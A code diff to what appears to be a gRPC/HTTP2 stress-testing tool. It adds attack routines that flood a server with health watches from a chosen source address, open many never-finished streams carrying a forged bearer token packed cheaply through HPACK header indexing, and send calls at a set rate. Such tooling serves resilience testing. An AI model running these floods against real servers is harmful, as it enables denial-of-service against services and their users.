@@ -34,9 +34,9 @@ async def rapid_reset(attack: Attack) -> None:
 
 async def empty_watches(attack: Attack) -> None:
     """`calls` health watches, 64 on a connection, all from one address."""
-    calls = attack.options["calls"]
-    opened = [await attack.connect() for _ in range((calls + 63) // 64)]
-    for number in range(calls):
+    count, source = attack.options["calls"], attack.options.get("source")
+    opened = [await attack.connect(source=source) for _ in range((count + 63) // 64)]
+    for number in range(count):
         opened[number // 64].call(HEALTH + "Watch", body=frames.message(b""))
     attack.is_on()
     await asyncio.gather(*(one.gone.wait() for one in opened))
@@ -54,6 +54,39 @@ async def refused(attack: Attack) -> None:
         _keep_in_flight(connection, block, options.get("in_flight", 32))
     attack.is_on()
     await asyncio.gather(*(one.gone.wait() for one in opened))
+
+
+async def forged_tokens(attack: Attack) -> None:
+    """`calls` searches with the forged token `token` at once, which take 16 bytes each once the server knows it."""
+    options = attack.options
+    named = [(":path", SEARCH), (":authority", attack.address), ("te", "trailers"), ("content-type", "application/grpc")]
+    named.append(("authorization", f"Bearer {options['token']}"))
+    first = b"\x83\x86" + b"".join(frames.indexed_field(name, value) for name, value in named)
+    # The static table ends at 61; what came last stands first behind it.
+    repeated = b"\x83\x86" + bytes(0x80 | 62 + number for number in range(len(named)))
+    opened = [await attack.connect() for _ in range((options["calls"] + 63) // 64)]
+    for number in range(options["calls"]):
+        opened[number // 64].call_with(repeated if number % 64 else first, end=False)
+    attack.is_on()
+    await asyncio.Event().wait()
+
+
+async def calls(attack: Attack) -> None:
+    """Calls of `path` with the message `body` (hex) and `metadata`, `per_second` over `connections` until the end."""
+    options, loop = attack.options, asyncio.get_running_loop()
+    block = frames.request_headers(options["path"], attack.address, metadata=options["metadata"])
+    body = frames.message(bytes.fromhex(options["body"]))
+    opened = [await attack.connect() for _ in range(options.get("connections", 4))]
+    attack.is_on()
+    began, made = loop.time(), 0
+    while True:
+        due = int((loop.time() - began) * options["per_second"])
+        for number in range(made, due):
+            connection = opened[number % len(opened)]
+            if len(connection.open_streams) < 64 and not connection.gone.is_set():
+                connection.call_with(block, body)
+        made = due
+        await asyncio.sleep(0.002)
 
 
 def _keep_in_flight(connection: RawConnection, block: bytes, count: int) -> None:
